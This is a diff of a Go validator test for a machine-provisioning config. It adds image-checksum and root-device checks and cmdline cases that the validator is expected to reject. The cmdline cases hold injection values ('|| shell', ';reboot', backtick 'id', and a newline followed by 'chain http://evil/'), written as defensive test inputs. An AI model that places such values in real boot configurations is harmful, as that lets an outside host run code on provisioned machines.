@@ -11,7 +11,6 @@ import (
 func TestRules(t *testing.T) {
 	t.Parallel()
 	prov := "  - {name: prov, cidr: 10.1.0.0/24, server: 10.1.0.1, role: provisioning, dhcp: {mode: reservation}}\n"
-	sha := strings.Repeat("ab", 32)
 	n1ifc := `interfaces: [{name: e0, mac: "02:00:00:00:00:01", network: prov, address: 10.1.0.11, pxe: true}]`
 	for _, tc := range []struct {
 		name, old, new, want string
@@ -44,12 +43,21 @@ func TestRules(t *testing.T) {
 		{"relative mount", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    expect: {storage: [{mount: data}]}\n", `storage mount "data" is not an absolute path`, "expect: {storage", 0},
 		{"negative throughput", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    expect: {storage: [{mount: /d, min_read_mbps: -5}]}\n", "negative minimum throughput", "expect: {storage", 0},
 		{"nconnect", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    expect: {storage: [{mount: /d, nconnect: 64}]}\n", "nconnect 64 of /d is outside 1-16", "expect: {storage", 0},
-		{"image without sha256", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/debian.raw.zst}\n", `image sha256 "" is not a SHA-256 digest`, "image: {file", 0},
-		{"image without source", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {sha256: " + sha + "}\n", "image has no file", "image: {sha256", 0},
-		{"image ftp url", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: \"ftp://x/d.raw\", sha256: " + sha + "}\n", `image file "ftp://x/d.raw" is not http or https`, "image: {file", 0},
-		{"image escapes artifacts", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: ../d.raw, sha256: " + sha + "}\n", `image file "../d.raw" is not a path under`, "image: {file", 0},
-		{"image qcow2", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: d.qcow2, format: qcow2, sha256: " + sha + "}\n", `unknown image format "qcow2"`, "image: {file", 0},
+		{"image without sha256", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/d.raw.zst}\n", "image images/d.raw.zst has no sha256: no checksum, no deploy", "image:", 0},
+		{"image sha256 not hex", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/d.raw.zst, sha256: abc}\n", `image sha256 "abc" is not 64 hex digits`, "image:", 0},
+		{"image without file", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {sha256: abababababababababababababababababababababababababababababababab}\n", "image has no file", "image:", 0},
+		{"image qcow2", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/d.qcow2, sha256: abababababababababababababababababababababababababababababababab}\n", "image images/d.qcow2 is qcow2: the node never parses qcow2", "image:", 0},
+		{"image unknown extension", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/d.iso, sha256: abababababababababababababababababababababababababababababababab}\n", `unknown extension ".iso"`, "image:", 0},
+		{"image format", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: images/d, format: xz, sha256: abababababababababababababababababababababababababababababababab}\n", `image format "xz": the agent writes raw, zstd or gzip`, "image:", 0},
+		{"root device sizes", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: d.raw, sha256: abababababababababababababababababababababababababababababababab, root_device: {min_size_gib: 500, max_size_gib: 100}}\n", "root_device min_size_gib 500 is above max_size_gib 100: no disk can match", "image:", 0},
+		{"root device by_path", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    image: {file: d.raw, sha256: abababababababababababababababababababababababababababababababab, root_device: {by_path: /dev/sda}}\n", `root_device by_path "/dev/sda" is not a /dev/disk/by-path name`, "image:", 0},
 		{"unknown peer", "    boot: {kernel: k2}\n", "    boot: {kernel: k2}\n    expect: {peers: [n1, n9]}\n", `peer "n9" is not a node`, "expect: {peers", 0},
+		{"cmdline or", "boot: {cmdline: c2-node}", `boot: {cmdline: "c2-node || shell"}`, `cmdline holds "||" at byte 8`, "", 0},
+		{"cmdline and", "boot: {cmdline: c2-node}", `boot: {cmdline: "c2-node && x"}`, `cmdline holds "&&"`, "", 0},
+		{"cmdline semicolon", "boot: {cmdline: c2-node}", `boot: {cmdline: "c2-node;reboot"}`, `cmdline holds ";"`, "", 0},
+		{"cmdline dollar", "boot: {cmdline: c2-node}", `boot: {cmdline: "c2-node x=${net0/ip}"}`, `cmdline holds "$"`, "", 0},
+		{"cmdline backtick", "boot: {cmdline: c2-node}", "boot: {cmdline: \"c2-node `id`\"}", "cmdline holds \"`\"", "", 0},
+		{"cmdline control", "boot: {cmdline: c2-node}", `boot: {cmdline: "c2-node\nchain http://evil/"}`, "cmdline holds a control character (U+000A)", "", 0},
 		{"override uefi", "boot: {cmdline: c2-node}", "boot: {cmdline: c2-node, uefi_binary: ipxe.kpxe}", `unknown uefi_binary "ipxe.kpxe"`, "", 0},
 		{"override network", "expect: {gpu: {count: 4}}\n        interfaces: [{name: e0, mac: \"02:00:00:00:00:02\"", "expect: {networks: [prov, ib]}\n        interfaces: [{name: e0, mac: \"02:00:00:00:00:02\"", `expected network "ib" is not defined`, "", 0},
 		{"site default profile", "  profile: base\n", "  profile: bsae\n", `profile "bsae" is not defined`, "", 0},
